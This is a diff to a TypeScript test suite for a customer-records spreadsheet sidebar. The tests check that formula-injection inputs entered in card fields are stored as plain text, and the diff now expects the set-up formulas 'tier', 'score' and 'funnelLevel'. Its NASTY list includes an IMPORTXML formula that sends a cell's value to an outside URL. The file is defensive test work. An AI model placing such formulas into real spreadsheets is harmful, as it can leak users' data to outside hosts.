@@ -14,6 +14,9 @@ const TITLES = {
   zh: { customers: '客户', individual: '个体客户', organisation: '团体客户' },
 } as const;
 
+/** The fields of a card that set-up fills with a formula. */
+const SET_UP_FORMULAS = ['tier', 'score', 'funnelLevel'];
+
 const NASTY: readonly string[] = [
   '=IMPORTXML("https://example.com/"&B2,"//a")',
   '=1+1',
@@ -86,12 +89,13 @@ describe.each(KINDS)('every text field of an %s', (kind) => {
   beforeAll(() => {
     archive = archiveIn('en');
   });
-  const formulasIn = (title: string): readonly string[] => {
+  const formulasIn = (title: string): readonly unknown[] => {
     const { id, rows, columns } = archive.sheet(title);
     return archive.host.cells
       .formulas(id, { row: 0, column: 0, rows, columns })
-      .flatMap((row) => row.flatMap((formula) => (formula === null || formula === '' ? [] : [formula])));
+      .flatMap((row) => row.flatMap((formula, at) => (formula === null || formula === '' ? [] : [header(title, at)])));
   };
+  const header = (title: string, at: number): unknown => archive.rows(title)[0]?.[at];
 
   it.each(NASTY)('keeps %j exactly, in a new card and in a changed one, and makes no formula of it', (text) => {
     const typed = everyField(lines, text);
@@ -104,8 +108,10 @@ describe.each(KINDS)('every text field of an %s', (kind) => {
     archive.value('saveCardFromSidebar', { id: plain.id, revision: 1, base, changes: typed });
     const changed = archive.value('loadCardFromSidebar', { id: plain.id });
     expect(changed.fields).toMatchObject(typed);
-    expect(changed.formulas).toEqual([]);
-    for (const title of ['Customers', TITLES.en[kind], 'Change log']) expect(formulasIn(title)).toEqual([]);
+    // What set-up gives every card, and nothing else.
+    expect(changed.formulas).toEqual(SET_UP_FORMULAS);
+    for (const title of [TITLES.en[kind], 'Change log']) expect(formulasIn(title)).toEqual([]);
+    expect(new Set(formulasIn('Customers'))).toEqual(new Set(['Tier', 'Value score', 'Funnel level']));
   });
 
   it('holds 50,000 characters', () => {
@@ -158,7 +164,7 @@ describe('a ticked word', () => {
       const { id } = create(archive, kind, { name: 'x', ...Object.fromEntries(lines.map(({ key }) => [key, ticks])) });
       const { fields, formulas } = archive.value('loadCardFromSidebar', { id });
       for (const { key } of lines) expect(fields[key]).toEqual(ticks);
-      expect(formulas).toEqual([]);
+      expect(formulas).toEqual(SET_UP_FORMULAS);
     }
   });
 });
